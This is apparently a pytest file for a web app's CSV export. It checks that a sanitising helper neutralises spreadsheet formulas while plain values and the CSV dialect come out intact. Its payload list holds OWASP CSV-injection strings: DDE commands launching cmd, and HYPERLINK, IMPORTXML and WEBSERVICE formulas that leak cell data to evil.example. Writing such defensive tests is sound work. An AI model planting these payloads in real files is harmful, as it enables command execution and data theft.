"""The places CSV: only what a spreadsheet would evaluate is neutralised; everything else comes out as it was,
in the documented dialect (UTF-8, comma, CRLF, header row)."""
from __future__ import annotations

import csv
import io

import pytest

from tests.places.conftest import DAM, offset
from webapp.csv_safety import spreadsheet_safe
from webapp.places.serialize import CSV_COLUMNS

# OWASP, CSV Injection (https://owasp.org/www-community/attacks/CSV_Injection) and the payloads commonly
# collected with it: each one a spreadsheet would run as a formula (or DDE command).
OWASP_PAYLOADS = [
    "=cmd|' /C calc'!A0",
    "=cmd|' /C notepad'!'A1'",
    '=HYPERLINK("http://evil.example/?leak="&A1&A2,"Error: please click for further information")',
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "=10+20+cmd|' /C calc'!A0",
    "=1+2\";=1+2",
    "=1+2'\" ;,=1+2",
    '=IMPORTXML(CONCAT("http://evil.example/?v=", CONCATENATE(A2:E2)), "//a")',
    '=IMPORTRANGE("https://docs.example/d/x", "sheet1!A1:B9")',
    '=WEBSERVICE("http://evil.example/?"&A1)',
    "\t=1+1",
    "\r=1+1",
    " =1+1",                        # a leading space does not stop every spreadsheet
    "\u00a0@SUM(1,2)",
    "\uff1d1+1",                    # full-width equals sign
    "\uff0bcmd|' /C calc'!A0",
    "-1+1",
    "+31-20-6123456",               # Excel computes 31 - 20 - 6123456
    "@buurthuis",
]

# Realistic values a program reads back exactly: they must come out unchanged.
PLAIN_VALUES = [
    "+31 20 612 3456", "+31 (0)20 612 3456", "020 612 3456", "-5", "+1.234,50", "Café 't Hoekje",
    "O'Brien", "Zaal A-B, 1e verdieping", "100% gratis", "info@buurthuis.example", "Mo-Fr 09:00-17:00; PH off",
    'Buurthuis "De Brug"', "Dam 1, 1012 JS Amsterdam", "Regel 1\nRegel 2", "DDE (\"cmd\";\"/C calc\";\"!A0\")A0",
]


def _rows(response) -> list[dict]:
    return list(csv.DictReader(io.StringIO(response.get_data(as_text=True), newline="")))


def test_owasp_payloads_are_neutralised(client, make_place):
    for n, payload in enumerate(OWASP_PAYLOADS):
        make_place(*offset(*DAM, 5 * n), name=payload, host_name=payload[:80])
    response = client.get("/api/v1/gemeenten/GM0363/places.csv")
    assert response.status_code == 200
    rows = _rows(response)
    assert len(rows) == len(OWASP_PAYLOADS)
    for row in rows:
        for column in ("name", "host_name"):
            cell = row[column]
            assert cell.startswith("'"), (column, cell)          # shown as text, never evaluated
            assert cell[1:] in (OWASP_PAYLOADS if column == "name" else [p[:80] for p in OWASP_PAYLOADS])


def test_plain_values_come_out_unchanged(client, make_place):
    phones = ["+31 20 612 3456", "+31 (0)20 612 3456", "020 612 3456", "+31201234567"]
    for n, value in enumerate(PLAIN_VALUES):
        make_place(*offset(*DAM, 5 * n), name=value, phone=phones[n % len(phones)], address=value[:200],
                   opening_hours="Mo-Fr 09:00-17:00; PH off", email="info@buurthuis.example",
                   website="https://buurthuis.example/?a=1&b=2")
    rows = _rows(client.get("/api/v1/gemeenten/GM0363/places.csv"))
    assert sorted(r["name"] for r in rows) == sorted(PLAIN_VALUES)
    for row in rows:
        assert row["address"] == row["name"]
        assert row["phone"] in phones
        assert row["opening_hours"] == "Mo-Fr 09:00-17:00; PH off"
        assert row["website"] == "https://buurthuis.example/?a=1&b=2"


@pytest.mark.parametrize("value", PLAIN_VALUES)
def test_helper_leaves_plain_values_alone(value):
    assert spreadsheet_safe(value) == value


@pytest.mark.parametrize("value", OWASP_PAYLOADS)
def test_helper_neutralises_payloads(value):
    assert spreadsheet_safe(value) == "'" + value


def test_dialect_utf8_comma_crlf_header(client, make_place):
    make_place(name="Café, \"De Brug\"", address="Straat 1\nAchterom", languages=["nl", "ar"])
    response = client.get("/api/v1/gemeenten/GM0363/places.csv")
    assert response.mimetype == "text/csv"
    assert response.mimetype_params.get("charset", "").lower() == "utf-8"
    body = response.get_data()
    assert not body.startswith(b"\xef\xbb\xbf")                    # no byte order mark
    text = body.decode("utf-8")
    header, rest = text.split("\r\n", 1)
    assert header == ",".join(CSV_COLUMNS)
    assert text.endswith("\r\n") and text.count("\r\n") == 2          # header + one row (the \n inside is quoted)
    assert '"Café, ""De Brug"""' in rest and '"Straat 1\nAchterom"' in rest
    row = _rows(response)[0]
    assert row["name"] == "Café, \"De Brug\"" and row["languages"] == "nl;ar"
